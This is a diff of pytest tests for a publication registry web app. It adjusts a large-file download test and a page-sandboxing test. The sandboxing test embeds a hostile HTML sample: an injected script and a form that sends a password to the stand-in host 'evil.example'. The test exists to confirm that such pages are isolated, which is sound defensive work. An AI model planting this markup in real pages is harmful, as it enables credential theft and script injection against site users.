@@ -8,7 +8,7 @@ import pytest
 from starlette.testclient import TestClient
 
 from tests.dossier.statements import made
-from tests.registry.databases import put, signed
+from tests.registry.databases import put, signed, weighed
 from tests.web.registry.conftest import root
 from tests.web.registry.forms import PAGE, asked
 from weighbridge.digests import digest_bytes
@@ -30,13 +30,13 @@ def path_of(found: Published) -> str:
     return f"/publications/{found.publication.removeprefix('sha256:')}"
 
 
-@pytest.mark.parametrize("limit", [1 << 20, 100], ids=["small", "large"])
 def test_files_come_back_byte_for_byte_and_open_nothing(
-    client: TestClient, published: Published, upload: Upload, monkeypatch: pytest.MonkeyPatch, limit: int
+    client: TestClient, published: Published, upload: Upload, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """Each as an attachment that is not guessed at; from memory or, when large, from a disk."""
-    monkeypatch.setattr(publications, "_LARGE_BYTES", limit)
+    monkeypatch.setattr(publications, "_LARGE_BYTES", 5_000)
     page = asked(client, path_of(published))
+    assert min(map(len, upload.files.values())) < 5_000 < max(map(len, upload.files.values()))
     for name, data in upload.files.items():
         found = client.get(f"{path_of(published)}/files/{name}")
         assert (found.status_code, found.content) == (200, data), name
@@ -52,7 +52,7 @@ def test_files_come_back_byte_for_byte_and_open_nothing(
 def test_a_dossiers_own_page_is_in_a_box(client: TestClient, store: Store, tmp_path: Path, upload: Upload) -> None:
     """It is a stranger's: no script, no form, no frame, nothing loaded, and not with our page's rights."""
     hostile = b"<script>fetch('/api')</script><form action='//evil.example'><input name=password></form>"
-    folder = made.write(tmp_path / "hostile", made.record())
+    folder = made.write(tmp_path / "hostile", weighed())
     (folder / "index.html").write_bytes(hostile)
     made.sign(folder, made.ed25519_key())
     from weighbridge.registry.upload import read_folder
